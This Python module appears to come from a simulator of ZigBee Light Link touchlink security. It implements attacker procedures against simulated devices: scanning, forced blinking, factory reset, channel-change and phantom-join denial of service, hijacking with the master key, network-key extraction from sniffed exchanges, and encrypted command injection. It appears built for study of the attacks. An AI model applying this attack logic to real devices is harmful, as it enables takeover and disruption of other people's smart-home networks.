"""The attacker node and the touchlink attack procedures.

Inter-PAN attacks (scan, blink, reset, both denial-of-service variants)
need no key material. Hijack needs the ZLL master key; key extraction
needs it plus a passive capture of a legitimate touchlink exchange;
command injection needs the current network key.

Every attack reads the target's simulated state afterwards to decide its
verdict, rather than inferring success from traffic.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass, field
from typing import Iterable

from . import crypto, wire
from .airsim import Air, Node, max_distance
from .crypto import Key128, TransactionContext
from .devices.commissioning import (
    REPLY_WAIT_US,
    SCAN_DWELL_US,
    AckTimeout,
    ScanHit,
    ack_failed_since,
    deliver_user_command,
    node_by_extended,
    touchlink_scan,
)
from .devices.nodes import EndDeviceNode, InitiatorNode
from .devices.state import DEFAULT_LAMP, MASTER_KEY_INDEX, seal_command, snapshot_line
from .wire import (
    ClusterCommand,
    IdentifyRequest,
    InterPanFrame,
    MacHeader,
    NetworkJoinEndDeviceRequest,
    NetworkJoinEndDeviceResponse,
    NetworkStartRequest,
    NetworkUpdateRequest,
    ResetToFactoryNewRequest,
    ScanRequest,
    ScanResponse,
)

# host-side ACK generation in the attacker's software stack
SOFTWARE_ACK_LATENCY_US = 2000
ATTACKER_EXTENDED_ADDR = 0x00124B0000A77AC4
ATTACKER_SHORT_ADDR = 0xA77A
RANGE_EVAL_TX_DBM = 25.4

__all__ = [
    "AckTimeout",
    "AttackError",
    "AttackOutcome",
    "AttackerConfig",
    "AttackerNode",
    "DiscoveredDevice",
    "IncompleteCapture",
    "MasterKeyRequired",
    "MixedTransactions",
    "Rejected",
    "active_scan",
    "blink_attack",
    "dos_channel_change",
    "dos_join_phantom",
    "extract_network_key",
    "extract_network_keys",
    "hijack",
    "inject_command",
    "reset_attack",
    "scan_outcome",
]


class AttackError(Exception):
    pass


class Rejected(AttackError):
    pass


class MasterKeyRequired(AttackError):
    pass


class IncompleteCapture(AttackError):
    pass


class MixedTransactions(AttackError):
    pass


@dataclass
class AttackerConfig:
    tx_power_dbm: float = 0.0
    spoof_extended_src: int | None = None
    master_key: Key128 | None = None
    position: tuple[float, float] = (0.0, 0.0)
    extended_addr: int = ATTACKER_EXTENDED_ADDR
    short_addr: int = ATTACKER_SHORT_ADDR
    channel: int = 11
    ack_latency_us: int = SOFTWARE_ACK_LATENCY_US


class AttackerNode(Node):
    """Promiscuous radio: everything heard on the tuned channel lands in ``inbox``."""

    def __init__(self, node_id: str, config: AttackerConfig):
        super().__init__(
            node_id,
            config.position,
            config.tx_power_dbm,
            config.channel,
            config.extended_addr,
            config.short_addr,
            ack_turnaround_us=config.ack_latency_us,
        )
        self.config = config
        self.frame_counters: dict[bytes, int] = {}

    @property
    def source_extended(self) -> int:
        spoof = self.config.spoof_extended_src
        return self.extended_addr if spoof is None else spoof

    def next_counter(self, key: Key128) -> int:
        value = self.frame_counters.get(key.data, 0) + 1
        self.frame_counters[key.data] = value
        return value

    def capture(self) -> list:
        return list(self.inbox)


@dataclass
class DiscoveredDevice:
    extended_addr: int
    channel: int
    scan_response: ScanResponse
    rssi_dbm: float
    ctx: TransactionContext
    seen_at: int = 0

    @classmethod
    def from_hit(cls, hit: ScanHit, seen_at: int = 0) -> DiscoveredDevice:
        return cls(hit.extended_addr, hit.channel, hit.response, hit.rssi_dbm, hit.ctx, seen_at)

    @property
    def transaction_id(self) -> int:
        return self.ctx.transaction_id


@dataclass
class AttackOutcome:
    name: str
    target: str
    success: bool
    frames_sent: int = 0
    frames_received: int = 0
    details: dict[str, str] = field(default_factory=dict)
    delta: list[str] = field(default_factory=list)

    def report(self) -> str:
        lines = [
            f"attack: {self.name}",
            f"target: {self.target}",
            f"frames_sent: {self.frames_sent}",
            f"frames_received: {self.frames_received}",
            f"verdict: {'success' if self.success else 'failure'}",
        ]
        lines += [f"{key}: {value}" for key, value in self.details.items()]
        lines += [f"delta: {change}" for change in self.delta] or ["delta: none"]
        return "\n".join(lines) + "\n"


# --------------------------------------------------------------------------


class _Session:
    """Bookkeeping shared by the single-target attacks."""

    def __init__(self, name: str, attacker: AttackerNode, air: Air, target: DiscoveredDevice):
        self.name = name
        self.attacker = attacker
        self.air = air
        self.target = target
        self.node = node_by_extended(air, target.extended_addr)
        self.log_start = len(air.log)
        self.inbox_start = len(attacker.inbox)
        self.t0 = air.now
        self.before = self.snapshot()

    @property
    def label(self) -> str:
        ext = f"0x{self.target.extended_addr:016x}"
        return f"{ext} ({self.node.node_id})" if self.node else ext

    def snapshot(self) -> dict[str, str]:
        if self.node is None or not hasattr(self.node, "state"):
            return {}
        for change in self.node.settle(self.air.now):
            self.air.record_change(self.node, change)
        line = snapshot_line(self.node.node_id, self.node.state, self.air.now)
        return dict(part.split("=", 1) for part in line.split())

    def send(self, command, wait_us: int = REPLY_WAIT_US) -> None:
        a = self.attacker
        header = MacHeader(
            sequence_number=a.next_seq(),
            src_pan=wire.BROADCAST_PAN,
            dst_pan=wire.BROADCAST_PAN,
            src_extended=a.source_extended,
            dst_extended=self.target.extended_addr,
        )
        a.tune(self.target.channel)
        self.air.transmit(a, InterPanFrame(header, command))
        self.air.run_for(wait_us)

    def check_ack(self) -> None:
        """Targets that demand a MAC ACK ignore us when nobody acknowledged in time."""
        if ack_failed_since(self.node, min(self.target.seen_at, self.t0)):
            raise AckTimeout(f"{self.label} dropped the exchange: scan response was not acknowledged in time")

    def received(self, command_type) -> list:
        return [
            rec.frame.command
            for rec in self.attacker.inbox[self.inbox_start:]
            if isinstance(rec.frame, InterPanFrame) and isinstance(rec.frame.command, command_type)
        ]

    def outcome(self, success: bool, **details) -> AttackOutcome:
        after = self.snapshot()
        delta = [
            f"{key}: {self.before.get(key, '-')} -> {value}"
            for key, value in after.items()
            if self.before.get(key) != value and key != "identify_remaining_us"
        ]
        if self.before.get("identify_remaining_us") != after.get("identify_remaining_us"):
            delta.append(
                f"identify_remaining_us: {self.before.get('identify_remaining_us', '-')} -> {after.get('identify_remaining_us', '-')}"
            )
        sent = sum(1 for line in self.air.log[self.log_start:] if line.startswith(f"tx {self.attacker.node_id} "))
        return AttackOutcome(
            name=self.name,
            target=self.label,
            success=success,
            frames_sent=sent,
            frames_received=len(self.attacker.inbox) - self.inbox_start,
            details={k: str(v) for k, v in details.items()},
            delta=delta,
        )


def active_scan(
    attacker: AttackerNode, air: Air, channels: Iterable[int] = wire.PRIMARY_CHANNELS, dwell_us: int = SCAN_DWELL_US
) -> list[DiscoveredDevice]:
    """Broadcast a ScanRequest on each channel and report every device that answers."""
    found: list[DiscoveredDevice] = []
    for channel in channels:
        tid = air.random_u32(nonzero=True)
        hits = touchlink_scan(
            attacker, air, [channel], tid, attacker.source_extended, seq=attacker.next_seq, dwell_us=dwell_us
        )
        found += [DiscoveredDevice.from_hit(h, h.ctx.expires_at - crypto.TRANSACTION_LIFETIME_US) for h in hits]
    return found


def scan_outcome(attacker: AttackerNode, air: Air, found: list[DiscoveredDevice], log_start: int) -> AttackOutcome:
    """Summarise an active scan. An empty result is still a successful scan."""
    names = []
    details = {}
    for i, d in enumerate(found, 1):
        node = node_by_extended(air, d.extended_addr)
        name = node.node_id if node else f"0x{d.extended_addr:016x}"
        names.append(name)
        rsp = d.scan_response
        details[f"device_{i}"] = (
            f"{name} ext=0x{d.extended_addr:016x} channel={d.channel} rssi={d.rssi_dbm:.1f} "
            f"factory_new={int(rsp.factory_new)} pan=0x{rsp.pan_id:04x} update_id={rsp.network_update_id}"
        )
    details = {"found": ",".join(sorted(names)) or "none", **details}
    sent = sum(1 for line in air.log[log_start:] if line.startswith(f"tx {attacker.node_id} "))
    return AttackOutcome("scan", "all", True, sent, len(found), details)


def find_target(found: list[DiscoveredDevice], extended_addr: int) -> DiscoveredDevice | None:
    return next((d for d in found if d.extended_addr == extended_addr), None)


def blink_attack(attacker: AttackerNode, air: Air, target: DiscoveredDevice, duration: int) -> AttackOutcome:
    """Make the target identify (blink) for ``duration`` seconds; 0 aborts a running blink."""
    s = _Session("blink", attacker, air, target)
    s.send(IdentifyRequest(target.transaction_id, duration))
    s.check_ack()
    state = getattr(s.node, "state", None)
    if duration == wire.IDENTIFY_STOP:
        stopped = state is not None and state.identify_until is None
        return s.outcome(stopped, requested="0x0000", effective="aborted" if stopped else "unchanged")
    started = _last_change(air, s, "identify-start")
    if started is None or state is None or state.identify_until is None:
        return s.outcome(False, requested=f"0x{duration:04x}")
    t, change = started
    seconds = int(change.split("seconds=")[1])
    consistent = state.identify_until == t + seconds * 1_000_000
    return s.outcome(consistent, requested=f"0x{duration:04x}", effective=f"{seconds} s", effective_s=seconds)


def _last_change(air: Air, s: _Session, prefix: str) -> tuple[int, str] | None:
    if s.node is None:
        return None
    tag = f"state {s.node.node_id} "
    for line in reversed(air.log[s.log_start:]):
        if line.startswith(tag):
            _, _, t, change = line.split(" ", 3)
            if change.startswith(prefix):
                return int(t), change
    return None


def reset_attack(attacker: AttackerNode, air: Air, target: DiscoveredDevice) -> AttackOutcome:
    s = _Session("reset", attacker, air, target)
    s.send(ResetToFactoryNewRequest(target.transaction_id))
    s.check_ack()
    state = getattr(s.node, "state", None)
    ok = state is not None and state.factory_new
    if ok and isinstance(s.node, EndDeviceNode):
        ok = state.lamp == DEFAULT_LAMP
    return s.outcome(ok, factory_new=int(bool(state and state.factory_new)))


def dos_channel_change(
    attacker: AttackerNode,
    air: Air,
    target: DiscoveredDevice,
    new_channel: int,
    update_id: int | None = None,
    bridge: InitiatorNode | None = None,
) -> AttackOutcome:
    """Move the target to ``new_channel`` with a network update request.

    ``update_id`` defaults to the advertised value plus one. When ``bridge``
    is given, one legitimate command is sent afterwards to confirm the
    target no longer hears its network.
    """
    rsp = target.scan_response
    if new_channel == rsp.channel:
        raise ValueError("new channel equals the target's current channel")
    if update_id is None:
        update_id = (rsp.network_update_id + 1) % 256
    s = _Session("dos-channel", attacker, air, target)
    request = NetworkUpdateRequest(
        transaction_id=target.transaction_id,
        extended_pan_id=rsp.extended_pan_id,
        network_update_id=update_id,
        channel=new_channel,
        pan_id=rsp.pan_id,
        short_addr=rsp.short_addr,
    )
    s.send(request)
    s.check_ack()
    state = getattr(s.node, "state", None)
    moved = state is not None and state.net is not None and state.net.channel == new_channel
    if not moved:
        raise Rejected(f"{s.label} kept its channel (update id {update_id} not accepted)")
    details = {"channel": new_channel, "update_id": update_id}
    if bridge is not None and isinstance(s.node, EndDeviceNode):
        delivered = deliver_user_command(bridge, air, s.node, ClusterCommand("toggle"))
        details["bridge_command_delivered"] = int(delivered)
        moved = not delivered
    return s.outcome(moved, **details)


def dos_join_phantom(
    attacker: AttackerNode,
    air: Air,
    target: DiscoveredDevice,
    channel: int | None = None,
    bridge: InitiatorNode | None = None,
) -> AttackOutcome:
    """Join the target to a network that does not exist, with a random wrapped key."""
    rng = air.rng
    s = _Session("dos-join", attacker, air, target)
    old_key = s.before.get("key")
    channel = target.channel if channel is None else channel
    request = NetworkJoinEndDeviceRequest(
        transaction_id=target.transaction_id,
        extended_pan_id=rng.getrandbits(64),
        key_index=MASTER_KEY_INDEX,
        encrypted_network_key=rng.getrandbits(128).to_bytes(16, "big"),
        channel=channel,
        pan_id=rng.getrandbits(16) & 0xFFFE,
        network_update_id=0,
        assigned_short_addr=rng.randrange(1, 0xFFF8),
    )
    s.send(request)
    s.check_ack()
    confirmed = any(r.transaction_id == target.transaction_id for r in s.received(NetworkJoinEndDeviceResponse))
    state = getattr(s.node, "state", None)
    moved = state is not None and state.net is not None and state.net.network_key.hex() != old_key
    details = {"join_response": int(confirmed), "phantom_pan": f"0x{request.pan_id:04x}", "channel": channel}
    ok = confirmed and moved
    if bridge is not None and isinstance(s.node, EndDeviceNode):
        delivered = deliver_user_command(bridge, air, s.node, ClusterCommand("toggle"))
        details["bridge_command_delivered"] = int(delivered)
        ok = ok and not delivered
    return s.outcome(ok, **details)


def hijack(
    attacker: AttackerNode,
    air: Air,
    target: DiscoveredDevice,
    attacker_key: Key128,
    channel: int | None = None,
    pan_id: int | None = None,
    extended_pan_id: int | None = None,
) -> AttackOutcome:
    """Commission the target into the attacker's network under ``attacker_key``."""
    master = attacker.config.master_key
    if master is None:
        raise MasterKeyRequired("hijack needs the ZLL master key in the attacker configuration")
    rng = air.rng
    s = _Session("hijack", attacker, air, target)
    channel = target.channel if channel is None else channel
    pan_id = (rng.getrandbits(16) & 0xFFFE) if pan_id is None else pan_id
    extended_pan_id = rng.getrandbits(64) if extended_pan_id is None else extended_pan_id
    short = rng.randrange(1, 0xFFF8)
    request = NetworkJoinEndDeviceRequest(
        transaction_id=target.transaction_id,
        extended_pan_id=extended_pan_id,
        key_index=MASTER_KEY_INDEX,
        encrypted_network_key=crypto.wrap_network_key(master, target.ctx, attacker_key),
        channel=channel,
        pan_id=pan_id,
        network_update_id=0,
        assigned_short_addr=short,
    )
    s.send(request)
    s.check_ack()
    state = getattr(s.node, "state", None)
    net = state.net if state is not None else None
    ok = (
        net is not None
        and net.network_key == attacker_key
        and net.pan_id == pan_id
        and net.channel == channel
    )
    return s.outcome(
        ok,
        key=attacker_key.hex(),
        pan=f"0x{pan_id:04x}",
        channel=channel,
        short=f"0x{short:04x}",
        join_response=int(bool(s.received(NetworkJoinEndDeviceResponse))),
    )


# --------------------------------------------------------------------------


def _frame_of(item):
    return item.frame if hasattr(item, "frame") else item[0]


def _complete_transactions(capture) -> tuple[dict[int, Key128] | None, set[str]]:
    scans: set[int] = set()
    responses: dict[tuple[int, int], ScanResponse] = {}
    joins: list[tuple[int, int, bytes]] = []
    kinds: set[str] = set()
    for item in capture:
        frame = _frame_of(item)
        if not isinstance(frame, InterPanFrame):
            continue
        cmd, header = frame.command, frame.header
        if isinstance(cmd, ScanRequest):
            scans.add(cmd.transaction_id)
            kinds.add("scan-request")
        elif isinstance(cmd, ScanResponse) and header.src_extended is not None:
            responses[(cmd.transaction_id, header.src_extended)] = cmd
            kinds.add("scan-response")
        elif isinstance(cmd, (NetworkJoinEndDeviceRequest, NetworkStartRequest)) and header.dst_extended is not None:
            joins.append((cmd.transaction_id, header.dst_extended, cmd.encrypted_network_key))
            kinds.add("join-request")
    found = []
    for tid, dst, wrapped in joins:
        rsp = responses.get((tid, dst))
        if tid in scans and rsp is not None:
            found.append((tid, rsp.response_id, wrapped))
    return found, kinds


def extract_network_keys(capture, master_key: Key128) -> dict[int, Key128]:
    """Recover the network key of every complete touchlink exchange, keyed by transaction id."""
    found, _ = _complete_transactions(capture)
    return {
        tid: crypto.unwrap_network_key(master_key, TransactionContext(tid, rid), wrapped)
        for tid, rid, wrapped in found
    }


def extract_network_key(capture, master_key: Key128, transaction_id: int | None = None) -> Key128:
    """Decrypt the network key from a sniffed scan request, scan response and join (or start) request.

    Without ``transaction_id`` the last complete exchange in the capture wins.
    """
    found, kinds = _complete_transactions(capture)
    if transaction_id is not None:
        found = [f for f in found if f[0] == transaction_id]
    if not found:
        missing = {"scan-request", "scan-response", "join-request"} - kinds
        if missing:
            raise IncompleteCapture(f"capture lacks: {', '.join(sorted(missing))}")
        raise MixedTransactions("captured frames do not share one transaction id")
    tid, rid, wrapped = found[-1]
    return crypto.unwrap_network_key(master_key, TransactionContext(tid, rid), wrapped)


def captured_join(capture, transaction_id: int | None = None):
    """The last sniffed join or start request, which also reveals the victim's PAN and channel."""
    for item in reversed(capture):
        frame = _frame_of(item)
        if not isinstance(frame, InterPanFrame):
            continue
        cmd = frame.command
        if isinstance(cmd, (NetworkJoinEndDeviceRequest, NetworkStartRequest)) and (
            transaction_id is None or cmd.transaction_id == transaction_id
        ):
            return cmd
    return None


# --------------------------------------------------------------------------


def inject_command(
    attacker: AttackerNode,
    air: Air,
    network_key: Key128,
    pan_id: int,
    channel: int,
    command: ClusterCommand,
    dst: int = wire.BROADCAST_SHORT,
    settle_us: int = 20_000,
) -> AttackOutcome:
    """Send an encrypted lamp command to the broadcast endpoint under a known network key."""
    log_start = len(air.log)
    bulbs = [n for n in air.nodes.values() if isinstance(n, EndDeviceNode)]
    before = {n.node_id: n.state.commands_applied for n in bulbs}
    frame = seal_command(
        network_key,
        pan_id,
        attacker.short_addr,
        dst,
        attacker.next_counter(network_key),
        command,
        attacker.next_seq(),
        endpoint=wire.BROADCAST_ENDPOINT,
    )
    attacker.tune(channel)
    air.transmit(attacker, frame)
    air.run_for(settle_us)
    affected = sorted(n.node_id for n in bulbs if n.state.commands_applied > before[n.node_id])
    drops = defaultdict(list)
    for line in air.log[log_start:]:
        if line.startswith("drop "):
            _, node_id, _, reason = line.split(" ", 3)
            drops[reason.split()[0]].append(node_id)
    target = "broadcast" if dst == wire.BROADCAST_SHORT else f"0x{dst:04x}"
    details = {
        "command": command.kind if not command.value else f"{command.kind}={command.value}",
        "affected": ",".join(affected) or "none",
    }
    for reason, nodes in sorted(drops.items()):
        details[f"dropped_{reason}"] = ",".join(sorted(set(nodes)))
    delta = [f"{n.node_id}.lamp: on={int(n.state.lamp.on)} hue={n.state.lamp.hue}" for n in bulbs if n.node_id in affected]
    sent = sum(1 for line in air.log[log_start:] if line.startswith(f"tx {attacker.node_id} "))
    return AttackOutcome("inject", target, bool(affected), sent, 0, details, delta)


def attack_range_m(model, profile, tx_power_dbm: float) -> float:
    """Furthest attacker distance at which ``profile`` still accepts inter-PAN frames."""
    return max_distance(model, tx_power_dbm, profile.effective_threshold_dbm)
